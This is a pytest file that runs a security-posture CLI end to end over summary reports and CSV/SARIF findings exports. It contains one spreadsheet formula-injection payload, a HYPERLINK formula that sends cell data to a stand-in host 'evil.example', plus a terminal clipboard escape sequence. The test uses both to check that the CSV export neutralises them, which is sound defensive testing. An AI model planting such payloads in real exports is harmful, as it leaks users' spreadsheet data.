"""``posture summary`` and ``posture findings --format csv|sarif`` end to end over a collected store."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import insert
from sqlalchemy.engine import Engine

from posture.cli.main import main
from posture.db import write_session
from posture.model import score_table
from posture.pipeline import collect
from posture.records import AssetKind, AssetRecord, AssetRef, ObservationRecord, Record, ScopeKind, ScopeRef
from posture.reports.csv_export import cell
from posture.rules.base import Hit, Reference, Rule, RuleRegistry, Snapshot
from posture.taxonomy import CIS_DOCKER, Phase, Severity

T0 = datetime(2025, 5, 1, 9, 0, tzinfo=UTC)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ENGINE_REF = AssetRef(AssetKind.DOCKER_ENGINE, "engine:cli")
IMAGE = AssetRef(AssetKind.IMAGE, "sha256:" + "c" * 64)


def _privileged(asset: AssetRecord, _snap: Snapshot) -> Iterator[Hit]:
    if asset.attributes.get("privileged"):
        yield Hit(evidence={"privileged": True})


RULES = [
    Rule(
        "DKR-C01",
        "Container runs privileged",
        Severity.CRITICAL,
        Phase.RUN,
        "3.4.3",
        "Drop --privileged.",
        references=(Reference(CIS_DOCKER, "5.5"),),
        kinds=frozenset({AssetKind.CONTAINER}),
        evaluate=_privileged,
    ),
    Rule("VULN", "Vulnerable package", Severity.HIGH, Phase.BUILD, "3.1.1", "Upgrade the package."),
]


@dataclass
class _Source:
    @property
    def scope(self) -> ScopeRef:
        return ScopeRef(ScopeKind.DOCKER, "engine:cli")

    def collect(self) -> Iterator[Record]:
        yield AssetRecord(ENGINE_REF.kind, ENGINE_REF.key, "host-1", Phase.RUN, {})
        yield AssetRecord(IMAGE.kind, IMAGE.key, "shop/api:1", Phase.BUILD, {})
        for cid, name in (("c1", "web"), ("c2", FORMULA_NAME)):
            yield AssetRecord(
                AssetKind.CONTAINER,
                f"engine:cli/{cid}",
                name,
                Phase.RUN,
                {"privileged": True, "namespace": "shop", "labels": {"team": "web"}},
                ENGINE_REF,
            )
        yield ObservationRecord(
            "VULN", IMAGE, "CVE-2024-9|zlib|1", "CVE-2024-9 in zlib", Severity.HIGH, {"fix_available": True}
        )


@pytest.fixture
def db(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> str:
    collect(engine, _Source(), RuleRegistry(RULES), now=T0)
    with write_session(engine) as session:
        session.execute(
            insert(score_table), [{"run_id": None, "taken_at": T0, "score": 71.0, "grade": "C", "counts": {}}]
        )
    monkeypatch.setattr("posture.cli.context.default_registry", lambda: RuleRegistry(RULES))
    return str(engine.url)


def test_summary_json_and_text(db: str, capsys: pytest.CaptureFixture[str]) -> None:
    main(["summary", "--db", db, "--format", "json"])
    data = json.loads(capsys.readouterr().out)
    assert data["score"]["grade"] == "C" and data["open"]["total"] == 3
    assert data["by_namespace"][0]["name"] == "shop" and data["by_team"][0]["name"] == "web"
    assert data["health"][0]["source"] == "docker:engine:cli" and data["health"][0]["status"] == "complete"
    assert data["changes"]["counts"]["new"] == 3
    main(["summary", "--db", db])
    assert "Score: 71/100, grade C" in capsys.readouterr().out


def test_summary_html_to_a_file(db: str, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    main(["summary", "--db", db, "--format", "html", "--output", str(out)])
    html = out.read_text()
    assert html.startswith("<!DOCTYPE html>") and "grade" in html and "shop" in html


def test_summary_to_an_unwritable_place_is_one_line(
    db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["summary", "--db", db, "--format", "html", "--output", str(tmp_path / "missing" / "r.html")])
    err = capsys.readouterr().err.strip()
    assert exit_info.value.code == 1 and len(err.splitlines()) == 1 and err.startswith("posture: error: summary:")


def test_findings_csv_defuses_formulas(db: str, capsys: pytest.CaptureFixture[str]) -> None:
    main(["findings", "--db", db, "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 3
    names = {r["asset_name"] for r in rows}
    assert "'" + FORMULA_NAME in names and FORMULA_NAME not in names
    privileged = next(r for r in rows if r["asset_name"] == "web")
    assert (privileged["nist"], privileged["references"], privileged["remediation"]) == (
        "3.4.3",
        "CIS Docker Benchmark 1.6.0 5.5",
        "Drop --privileged.",
    )
    assert cell("-1+1") == "'-1+1" and cell("plain") == "plain" and cell("\x1b]52;c;x\x07") == "]52;c;x"


def test_findings_sarif(db: str, capsys: pytest.CaptureFixture[str]) -> None:
    main(["findings", "--db", db, "--format", "sarif"])
    log = json.loads(capsys.readouterr().out)
    assert log["version"] == "2.1.0" and log["$schema"].endswith("sarif-2.1.0.json")
    run = log["runs"][0]
    rules = {r["id"]: r for r in run["tool"]["driver"]["rules"]}
    assert set(rules) == {"DKR-C01", "VULN"}
    assert rules["DKR-C01"]["help"]["text"] == "Drop --privileged."
    assert "CIS Docker Benchmark 1.6.0 5.5" in rules["DKR-C01"]["properties"]["tags"]
    assert rules["DKR-C01"]["properties"]["security-severity"] == "9.5"
    results = run["results"]
    assert {r["level"] for r in results} == {"error"}
    for result in results:
        assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["partialFingerprints"]["postureFingerprint/v1"]
        assert result["locations"][0]["logicalLocations"][0]["fullyQualifiedName"].split(":", 1)[0] in (
            "container",
            "image",
        )
